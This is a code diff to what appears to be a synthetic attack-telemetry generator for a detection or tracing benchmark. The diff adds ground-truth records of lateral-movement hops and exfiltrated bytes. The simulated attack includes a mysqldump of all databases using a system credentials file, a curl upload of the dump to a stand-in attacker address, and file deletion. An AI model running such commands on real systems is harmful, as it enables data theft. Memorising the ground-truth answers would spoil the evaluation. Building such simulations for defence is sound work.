@@ -27,7 +27,7 @@ from trailguard.demo.actiontrail import (
 )
 from trailguard.demo.audit import UNSET, Proc, user_event
 from trailguard.demo.benign.hosts import WCHEN_FP, developer_work
-from trailguard.demo.clock import MINUTE, SECOND, alnum
+from trailguard.demo.clock import MINUTE, SECOND, alnum, iso_z
 from trailguard.demo.flows import Flow
 from trailguard.demo.plan import Plan
 from trailguard.demo.scene import HostScene, Login, Scene
@@ -77,6 +77,9 @@ class Story:
                                       ATTACKER_IP, UA_CLI_ATTACKER, plan.creds_stolen)
         self.backdoor = key_actor(world, "ops-automation", ATTACKER_IP, UA_CLI_ATTACKER)
         self.invoke_ids = [f"t-sg0{alnum(self.rng, 11)}" for _ in range(2)]
+        # What tracing must rebuild, recorded as the story writes it (ground truth "trace").
+        self.hops: list[dict[str, Any]] = []
+        self.exfiltration: list[dict[str, Any]] = []
         self.command_id = f"c-sg0{alnum(self.rng, 11)}"
 
     def write(self) -> None:
@@ -92,6 +95,26 @@ class Story:
         self.db_exfiltration()
         self.oss_and_trail()
         self.restore(attacker)
+
+    def hop(self, t: int, target: str) -> None:
+        """A Cloud Assistant hop from the attacker's server (counted once per target)."""
+        if all(hop["to"] != target for hop in self.hops):
+            self.hops.append({"from": ATTACKER_IP, "to": target, "method": "cloud-assistant",
+                              "time": iso_z(t)})
+
+    def facts(self) -> dict[str, Any]:
+        build = self.build.host
+        return {
+            "entry_point": {"step": "S01", "host": build.name, "instance": build.instance_id,
+                            "time": iso_z(self.plan.install)},
+            "lateral_movement": self.hops,
+            "hop_count": len(self.hops),
+            "exfiltration": self.exfiltration,
+            "exfiltrated_bytes": sum(item["bytes"] for item in self.exfiltration),
+            "not_measurable": [
+                "S23's GetObject calls: ActionTrail records no object sizes, so their "
+                "volume is not part of exfiltrated_bytes."],
+        }
 
     def api(self, t: int, actor: Actor, service: str, name: str,
             params: dict[str, Any] | None = None, **extra: Any) -> None:
@@ -347,6 +370,7 @@ class Story:
                          {"InvokeId": self.invoke_ids[0]})
         for host, delay in ((self.web, 11.2), (self.db, 11.9)):
             self.plant_account(host, t + s(delay))
+            self.hop(t + s(9), host.host.name)
 
     def plant_account(self, target: HostScene, t: int) -> None:
         host = target.host
@@ -489,6 +513,7 @@ class Story:
                 self.api(t + s(offset), self.backdoor, "ecs", "DescribeInvocationResults",
                          {"InvokeId": self.invoke_ids[1]})
             bash = db.assist_script(t + s(3.5), self.invoke_ids[1])
+            self.hop(t, db.host.name)
         with scene.tagged("S21"):
             db.exec(t + s(3.6), ("mysqldump", "--defaults-file=/etc/mysql/debian.cnf",
                                  "--single-transaction", "--all-databases"), bash)
@@ -498,8 +523,11 @@ class Story:
             db.exec(upload, ("curl", "-sk", "--upload-file", "/var/tmp/.sys-cache.gz",
                              f"https://{EXFIL_IP}/upload/db-01.gz"), bash)
             duration = s(1_270)
+            sent = 2_146_000_000
             scene.flow(Flow(upload + s(0.1), duration, "172.16.3.30", db.port(), EXFIL_IP, 443,
-                            2_146_000_000, 1_830_000))
+                            sent, 1_830_000))
+            self.exfiltration.append({"destination": EXFIL_IP, "bytes": sent,
+                                      "channel": "vpc-flow", "source": db.host.name})
             db.exec(upload + duration + s(0.5), ("rm", "-f", "/var/tmp/.sys-cache.gz"), bash)
 
     def oss_and_trail(self) -> None:
@@ -556,5 +584,8 @@ class Story:
                                  443, 1_200, 2_400))
 
 
-def write_story(scene: Scene, plan: Plan) -> None:
-    Story(scene, plan).write()
+def write_story(scene: Scene, plan: Plan) -> dict[str, Any]:
+    """Write the attack; return the facts tracing must rebuild (ground truth "trace")."""
+    story = Story(scene, plan)
+    story.write()
+    return story.facts()
